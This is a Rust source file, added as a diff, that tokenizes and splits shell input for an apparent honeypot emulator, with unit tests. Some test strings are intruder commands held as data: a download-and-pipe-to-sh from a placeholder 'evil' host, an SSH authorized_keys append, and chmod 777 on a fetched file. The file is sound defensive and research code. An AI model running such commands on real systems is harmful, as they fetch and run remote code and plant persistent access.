@@ -1,0 +1,449 @@
+//! Shell input tokenizer and statement splitter.
+//!
+//! Handles the subset of POSIX shell syntax that honeypot intruders actually
+//! use (and that Cowrie parses): single/double quotes, backslash escapes,
+//! word splitting, statement separators (`;`, `&&`, `||`, `&`, newline),
+//! pipelines (`|`), and redirections (`>`, `>>`, `<`, `2>`, `2>&1`).
+//! Variable and command substitution are *not* expanded — intruder scripts
+//! are recorded and emulated, not faithfully interpreted — matching Cowrie's
+//! medium-interaction behaviour.
+
+use serde::{Deserialize, Serialize};
+
+/// One token from the lexer.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Token {
+    /// A word (after quote/escape processing).
+    Word(String),
+    /// `;`, `&`, or newline.
+    Semi,
+    /// `&&`
+    AndIf,
+    /// `||`
+    OrIf,
+    /// `|`
+    Pipe,
+    /// `>` (fd 1)
+    RedirOut,
+    /// `>>` (fd 1, append)
+    RedirAppend,
+    /// `<`
+    RedirIn,
+    /// `2>`
+    RedirErr,
+    /// `2>&1`
+    RedirErrToOut,
+}
+
+/// A redirection attached to a simple command.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub enum Redirection {
+    /// `> target`
+    Out(String),
+    /// `>> target`
+    Append(String),
+    /// `< source`
+    In(String),
+    /// `2> target` (the honeypot discards stderr, but records the file write
+    /// unless the target is /dev/null)
+    Err(String),
+    /// `2>&1`
+    ErrToOut,
+}
+
+/// A simple command: argv plus redirections.
+#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
+pub struct SimpleCommand {
+    /// Command name and arguments, in order. May be empty for bare
+    /// redirections like `> file`.
+    pub argv: Vec<String>,
+    /// Redirections in source order.
+    pub redirs: Vec<Redirection>,
+}
+
+impl SimpleCommand {
+    /// Command name, if any.
+    pub fn name(&self) -> Option<&str> {
+        self.argv.first().map(|s| s.as_str())
+    }
+}
+
+/// A statement: one pipeline (possibly a single command) plus the separator
+/// that ended it. `cmd1 | cmd2 && cmd3` produces two statements.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Statement {
+    /// The commands in the pipeline, left to right.
+    pub pipeline: Vec<SimpleCommand>,
+    /// How this statement was chained to the *next* one.
+    pub chain: Chain,
+}
+
+/// Chaining operator between statements.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum Chain {
+    /// `;`, `&`, newline, or end of input.
+    Always,
+    /// `&&` — next runs only on success (the emulator treats all emulated
+    /// commands as succeeding, so this matters only for bookkeeping).
+    And,
+    /// `||`
+    Or,
+}
+
+/// The tokenizer.
+pub struct Lexer<'a> {
+    src: &'a [u8],
+    pos: usize,
+}
+
+impl<'a> Lexer<'a> {
+    /// Lex a full input string into tokens.
+    pub fn new(src: &'a str) -> Self {
+        Lexer {
+            src: src.as_bytes(),
+            pos: 0,
+        }
+    }
+
+    fn peek(&self) -> Option<u8> {
+        self.src.get(self.pos).copied()
+    }
+
+    fn bump(&mut self) -> Option<u8> {
+        let b = self.peek()?;
+        self.pos += 1;
+        Some(b)
+    }
+
+    /// Produce all tokens. The lexer is total: any byte sequence yields a
+    /// token stream (unterminated quotes consume to end of input, like most
+    /// shells in non-interactive mode).
+    pub fn tokenize(mut self) -> Vec<Token> {
+        let mut out = Vec::new();
+        loop {
+            // Skip horizontal whitespace.
+            while matches!(self.peek(), Some(b' ') | Some(b'\t')) {
+                self.pos += 1;
+            }
+            let Some(b) = self.peek() else { break };
+            match b {
+                b'\n' | b';' => {
+                    self.pos += 1;
+                    out.push(Token::Semi);
+                }
+                b'&' => {
+                    self.pos += 1;
+                    if self.peek() == Some(b'&') {
+                        self.pos += 1;
+                        out.push(Token::AndIf);
+                    } else {
+                        out.push(Token::Semi); // background `&` ends a statement
+                    }
+                }
+                b'|' => {
+                    self.pos += 1;
+                    if self.peek() == Some(b'|') {
+                        self.pos += 1;
+                        out.push(Token::OrIf);
+                    } else {
+                        out.push(Token::Pipe);
+                    }
+                }
+                b'>' => {
+                    self.pos += 1;
+                    if self.peek() == Some(b'>') {
+                        self.pos += 1;
+                        out.push(Token::RedirAppend);
+                    } else {
+                        out.push(Token::RedirOut);
+                    }
+                }
+                b'<' => {
+                    self.pos += 1;
+                    out.push(Token::RedirIn);
+                }
+                b'2' if self.src.get(self.pos + 1) == Some(&b'>') => {
+                    // `2>` / `2>&1` only when `2` starts a word.
+                    self.pos += 2;
+                    if self.src.get(self.pos) == Some(&b'&') && self.src.get(self.pos + 1) == Some(&b'1')
+                    {
+                        self.pos += 2;
+                        out.push(Token::RedirErrToOut);
+                    } else {
+                        out.push(Token::RedirErr);
+                    }
+                }
+                _ => {
+                    let w = self.read_word();
+                    out.push(Token::Word(w));
+                }
+            }
+        }
+        out
+    }
+
+    /// Read one word, processing quotes and escapes.
+    fn read_word(&mut self) -> String {
+        let mut w = String::new();
+        while let Some(b) = self.peek() {
+            match b {
+                b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'>' | b'<' => break,
+                b'\'' => {
+                    self.pos += 1;
+                    while let Some(c) = self.bump() {
+                        if c == b'\'' {
+                            break;
+                        }
+                        w.push(c as char);
+                    }
+                }
+                b'"' => {
+                    self.pos += 1;
+                    while let Some(c) = self.bump() {
+                        match c {
+                            b'"' => break,
+                            b'\\' => {
+                                // Inside double quotes, backslash escapes \ " $ `
+                                match self.peek() {
+                                    Some(n @ (b'\\' | b'"' | b'$' | b'`')) => {
+                                        w.push(n as char);
+                                        self.pos += 1;
+                                    }
+                                    _ => w.push('\\'),
+                                }
+                            }
+                            _ => w.push(c as char),
+                        }
+                    }
+                }
+                b'\\' => {
+                    self.pos += 1;
+                    if let Some(c) = self.bump() {
+                        w.push(c as char);
+                    }
+                }
+                _ => {
+                    w.push(b as char);
+                    self.pos += 1;
+                }
+            }
+        }
+        w
+    }
+}
+
+/// Parse an input line into statements (pipelines with chaining info).
+pub fn split_statements(input: &str) -> Vec<Statement> {
+    let tokens = Lexer::new(input).tokenize();
+    let mut stmts = Vec::new();
+    let mut pipeline: Vec<SimpleCommand> = Vec::new();
+    let mut cur = SimpleCommand::default();
+    let mut it = tokens.into_iter().peekable();
+
+    // Take the word following a redirection operator, if present.
+    fn redir_target(it: &mut std::iter::Peekable<std::vec::IntoIter<Token>>) -> Option<String> {
+        match it.peek() {
+            Some(Token::Word(_)) => {
+                if let Some(Token::Word(w)) = it.next() {
+                    Some(w)
+                } else {
+                    unreachable!()
+                }
+            }
+            _ => None,
+        }
+    }
+
+    // Flush helpers keep structure flat.
+    fn flush_cmd(pipeline: &mut Vec<SimpleCommand>, cur: &mut SimpleCommand) {
+        if !cur.argv.is_empty() || !cur.redirs.is_empty() {
+            pipeline.push(std::mem::take(cur));
+        }
+    }
+    fn flush_stmt(stmts: &mut Vec<Statement>, pipeline: &mut Vec<SimpleCommand>, chain: Chain) {
+        if !pipeline.is_empty() {
+            stmts.push(Statement {
+                pipeline: std::mem::take(pipeline),
+                chain,
+            });
+        }
+    }
+
+    while let Some(tok) = it.next() {
+        match tok {
+            Token::Word(w) => cur.argv.push(w),
+            Token::Pipe => flush_cmd(&mut pipeline, &mut cur),
+            Token::Semi => {
+                flush_cmd(&mut pipeline, &mut cur);
+                flush_stmt(&mut stmts, &mut pipeline, Chain::Always);
+            }
+            Token::AndIf => {
+                flush_cmd(&mut pipeline, &mut cur);
+                flush_stmt(&mut stmts, &mut pipeline, Chain::And);
+            }
+            Token::OrIf => {
+                flush_cmd(&mut pipeline, &mut cur);
+                flush_stmt(&mut stmts, &mut pipeline, Chain::Or);
+            }
+            Token::RedirOut => {
+                if let Some(t) = redir_target(&mut it) {
+                    cur.redirs.push(Redirection::Out(t));
+                }
+            }
+            Token::RedirAppend => {
+                if let Some(t) = redir_target(&mut it) {
+                    cur.redirs.push(Redirection::Append(t));
+                }
+            }
+            Token::RedirIn => {
+                if let Some(t) = redir_target(&mut it) {
+                    cur.redirs.push(Redirection::In(t));
+                }
+            }
+            Token::RedirErr => {
+                if let Some(t) = redir_target(&mut it) {
+                    cur.redirs.push(Redirection::Err(t));
+                }
+            }
+            Token::RedirErrToOut => cur.redirs.push(Redirection::ErrToOut),
+        }
+    }
+    flush_cmd(&mut pipeline, &mut cur);
+    flush_stmt(&mut stmts, &mut pipeline, Chain::Always);
+    stmts
+}
+
+/// Split a recorded command string at `;` and `|` only — the segmentation the
+/// paper applies when counting "most popular commands" (Section 8.1).
+pub fn split_for_popularity(input: &str) -> Vec<String> {
+    split_statements(input)
+        .into_iter()
+        .flat_map(|s| s.pipeline.into_iter())
+        .filter(|c| !c.argv.is_empty())
+        .map(|c| c.argv.join(" "))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    #[test]
+    fn simple_words() {
+        let s = split_statements("uname -a");
+        assert_eq!(s.len(), 1);
+        assert_eq!(s[0].pipeline[0].argv, vec!["uname", "-a"]);
+    }
+
+    #[test]
+    fn semicolons_split_statements() {
+        let s = split_statements("free -m; uname; w");
+        assert_eq!(s.len(), 3);
+        assert_eq!(s[1].pipeline[0].argv, vec!["uname"]);
+    }
+
+    #[test]
+    fn and_or_chains() {
+        let s = split_statements("wget http://x/a && chmod 777 a || echo fail");
+        assert_eq!(s.len(), 3);
+        assert_eq!(s[0].chain, Chain::And);
+        assert_eq!(s[1].chain, Chain::Or);
+        assert_eq!(s[2].chain, Chain::Always);
+    }
+
+    #[test]
+    fn pipeline_grouping() {
+        let s = split_statements("cat /proc/cpuinfo | grep model | head -1");
+        assert_eq!(s.len(), 1);
+        assert_eq!(s[0].pipeline.len(), 3);
+        assert_eq!(s[0].pipeline[2].argv, vec!["head", "-1"]);
+    }
+
+    #[test]
+    fn quotes_and_escapes() {
+        let s = split_statements(r#"echo 'a b' "c d" e\ f"#);
+        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "a b", "c d", "e f"]);
+    }
+
+    #[test]
+    fn double_quote_escapes() {
+        let s = split_statements(r#"echo "a\"b" "x\\y" "p\qr""#);
+        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "a\"b", "x\\y", "p\\qr"]);
+    }
+
+    #[test]
+    fn redirections() {
+        let s = split_statements("echo key >> /root/.ssh/authorized_keys");
+        let cmd = &s[0].pipeline[0];
+        assert_eq!(cmd.argv, vec!["echo", "key"]);
+        assert_eq!(
+            cmd.redirs,
+            vec![Redirection::Append("/root/.ssh/authorized_keys".into())]
+        );
+    }
+
+    #[test]
+    fn stderr_redirections() {
+        let s = split_statements("wget http://x/a 2>/dev/null 2>&1");
+        let cmd = &s[0].pipeline[0];
+        assert_eq!(
+            cmd.redirs,
+            vec![
+                Redirection::Err("/dev/null".into()),
+                Redirection::ErrToOut,
+            ]
+        );
+    }
+
+    #[test]
+    fn word_starting_with_two_is_not_stderr_redir() {
+        let s = split_statements("sleep 2");
+        assert_eq!(s[0].pipeline[0].argv, vec!["sleep", "2"]);
+    }
+
+    #[test]
+    fn background_ampersand_acts_as_separator() {
+        let s = split_statements("./mal &");
+        assert_eq!(s.len(), 1);
+        assert_eq!(s[0].pipeline[0].argv, vec!["./mal"]);
+    }
+
+    #[test]
+    fn empty_and_whitespace_inputs() {
+        assert!(split_statements("").is_empty());
+        assert!(split_statements("   \n ; ;; ").is_empty());
+    }
+
+    #[test]
+    fn unterminated_quote_is_total() {
+        let s = split_statements("echo 'oops");
+        assert_eq!(s[0].pipeline[0].argv, vec!["echo", "oops"]);
+    }
+
+    #[test]
+    fn popularity_split_matches_paper_rule() {
+        let parts = split_for_popularity("cd /tmp; wget http://evil/x | sh && echo done");
+        // `;` and `|` split; `&&` splits too via statements — the paper's
+        // tables show `&&`-joined snippets split as well.
+        assert_eq!(
+            parts,
+            vec!["cd /tmp", "wget http://evil/x", "sh", "echo done"]
+        );
+    }
+
+    proptest! {
+        /// Lexer is total and never panics.
+        #[test]
+        fn prop_lexer_total(input in ".{0,200}") {
+            let _ = split_statements(&input);
+        }
+
+        /// Quoting a word always yields exactly that word back.
+        #[test]
+        fn prop_single_quote_roundtrip(w in "[ -~&&[^']]{1,40}") {
+            let s = split_statements(&format!("echo '{w}'"));
+            prop_assert_eq!(&s[0].pipeline[0].argv[1], &w);
+        }
+    }
+}
